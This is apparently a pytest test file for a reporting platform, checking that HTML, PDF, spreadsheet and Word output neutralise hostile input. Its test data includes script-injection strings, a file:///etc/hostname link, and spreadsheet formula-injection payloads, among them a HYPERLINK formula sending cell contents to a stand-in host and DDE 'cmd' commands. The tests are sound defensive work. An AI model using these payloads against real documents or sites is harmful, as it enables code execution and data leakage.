"""Hostile-but-honest inputs (issue 16): untrusted text stays inert everywhere, files from outside cannot crash,
exhaust or silently damage the platform.  Every corpus file is generated here (nothing big is committed)."""

from __future__ import annotations

import csv
import io
import logging
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

HOSTILE_NAME = '<a rel="attachment" href="file:///etc/hostname">x</a><script>alert(1)</script>'


# ------------------------------------------------------------------------------------------------ 1 publications
def _document(text: str):
    from monitor.publish.document import Document, Para, Section, Table, text_cell

    table = Table("表 1", ["企业 Enterprise", "值"], [[text_cell(text), text_cell("1.0")]], note=text)
    section = Section(f"一、{text}", [Para(text), table])
    return Document("dispatch", "2026Q3", "zh", f"标题 {text}", 'Bureau "X" </style><script>s()</script>',
                    "2026-10-15", [section], notices=[text])


def test_publication_html_escapes_every_text_from_the_store():
    from monitor.publish.render_html import render_html

    page = render_html(_document(HOSTILE_NAME), for_pdf=True)
    assert "<script" not in page
    assert 'href="file:' not in page and "<a " not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "</style><script>" not in page  # the issuer inside the CSS string cannot close the style element


def test_pdf_embeds_no_server_file_and_fetches_nothing_outside(tmp_path):
    pytest.importorskip("weasyprint")
    import weasyprint

    from monitor.publish.render_pdf import own_assets_fetcher, render_pdf

    secret = tmp_path / "server-secret.txt"
    secret.write_text("server secret 7f3a9c")
    # Even raw markup (as an unescaped template would pass it) cannot reach a server file through the fetcher.
    raw = (f'<html><body><a rel="attachment" href="{secret.as_uri()}">a</a><img src="{secret.as_uri()}">'
           '<img src="http://127.0.0.1:9/x.png"></body></html>')
    pdf = weasyprint.HTML(string=raw, url_fetcher=own_assets_fetcher()).write_pdf()
    assert b"/EmbeddedFile" not in pdf and b"/Filespec" not in pdf
    pdf = render_pdf(_document(HOSTILE_NAME.replace("file:///etc/hostname", secret.as_uri())))
    assert b"/EmbeddedFile" not in pdf
    # data: URIs (the charts and fonts the platform embeds itself) still load
    fetcher = own_assets_fetcher()
    assert fetcher.fetch("data:text/plain;base64,aGk=") is not None
    for url in ("file:///etc/hostname", "http://127.0.0.1:9/", "ftp://127.0.0.1/x"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)


# ------------------------------------------------------------------------------------------------ 2 formulas
FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+HYPERLINK(1)",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_neutralise_leaves_numbers_and_plain_text_and_quotes_formulas():
    from collectors.cells import neutralise

    for f in FORMULAS:
        assert neutralise(f) == "'" + f
    for ok in ("广州某某有限公司", "-1.5", "+3%", "1,234.5", "", None, 3.5, -2, "a=b"):
        assert neutralise(ok) == ok
    assert neutralise("-0.5 个百分点", numeric_start_ok=True) == "-0.5 个百分点"
    assert neutralise("-0.5 个百分点") == "'-0.5 个百分点"


def test_survey_template_writes_register_text_as_text(tmp_path):
    from openpyxl import load_workbook

    from collectors.survey_template import write_survey_workbook

    path = write_survey_workbook(tmp_path / "t.xlsx", uscc="91440101MA59XXXX0X", name=FORMULAS[0], period="2026-09",
                                 respondent=FORMULAS[1])
    ws = load_workbook(path).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)
    assert not any(str(c.value).startswith(("=", "+", "@")) for c in cells)
    assert any(c.value == "'" + FORMULAS[0] for c in cells)


def test_docx_table_cells_from_data_are_not_formulas():
    pytest.importorskip("docx")
    from monitor.publish.render_docx import render_docx

    doc = _document(FORMULAS[0] + "\x00\x1b[2J")
    data = render_docx(doc)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        xml = zf.read("word/document.xml").decode("utf-8")
    table = xml[xml.index("<w:tbl>"):xml.index("</w:tbl>")]
    assert ">'=HYPERLINK" in table and ">=HYPERLINK" not in table
    assert "\x1b" not in xml and "\x00" not in xml
